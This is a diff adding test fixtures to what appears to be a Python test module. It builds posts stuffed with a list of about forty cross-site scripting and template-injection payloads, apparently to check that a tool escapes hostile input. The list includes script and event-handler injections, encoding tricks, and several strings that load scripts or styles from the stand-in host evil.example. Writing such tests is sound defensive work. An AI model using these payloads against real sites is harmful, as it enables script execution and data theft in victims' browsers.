@@ -142,6 +142,50 @@ def document(person: Person, number: int, capture: Capture) -> Document:
     )
 
 
+# What people have put into fields to run a script in the reader's browser.
+PAYLOADS = (
+    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</script><script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<img src=//evil.example/p.png>",
+    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<a href=javascript:alert(1)>x</a>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
+    "<form action=//evil.example/><button>x", "<textarea></textarea><script>alert(1)</script>",
+    "<title></title><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "]]><script>alert(1)</script>",
+    "\" autofocus onfocus=alert(1) x=\"", "' onmouseover=alert(1) x='", "`onmouseover=alert(1)`", "javascript:alert(1)",
+    "{{ 7*7 }}{% for x in (1).__class__.__base__.__subclasses__() %}{% endfor %}", "${alert(1)}", "<%= 7*7 %>",
+    "<div hx-get=//evil.example/ hx-trigger=load>", "<div data-hx-get=/sign-out data-hx-trigger=load>",
+    "<div hx-on::load=alert(1)>",
+    "\u003cscript\u003ealert(1)\u003c/script\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\ufeff<script>alert(1)</script>", "<x\u2028onclick=alert(1)>", "+ADw-script+AD4-",
+)  # fmt: skip
+HOSTILE = "phone:+12025550166"  # every hostile post carries it
+
+
+def hostile() -> Iterator[Document]:
+    """A post for each payload, with the payload in every field that a site or a text can fill."""
+    for number, payload in enumerate(PAYLOADS):
+        text = f"{payload}\n\nhostile {payload} (202) 555-0166"
+        start = text.rindex(payload)
+        told = Mention(
+            kind="email", value=payload, raw=payload, start=start, end=start + len(payload), confidence=0.9,
+            method=payload, context=(payload,), details={"note": payload},
+        )  # fmt: skip
+        place = Capture(
+            segment="public/2026-01/board-000001", record=payload, sha256=payload, url=payload, fetched_at=START
+        )
+        yield Document(
+            id=f"hostile{number:02}", month="2026-03", site="board", url=payload, kind="ad", title=payload, text=text,
+            tokens="hostile", language="en", first_seen=START, last_seen=START, author=payload, category=payload,
+            city=payload, selectors=(HOSTILE, f"email:{payload}"), mentions=(told,), indicators=(payload,),
+            names=(payload,), campaign=payload, network="nhostile", captures=(place,), retention=payload,
+        )  # fmt: skip
+
+
 def leads(place: Capture) -> tuple[Lead, ...]:
     """Two leads: one to look at first, one that reads like a victim."""
     ref = Ref(
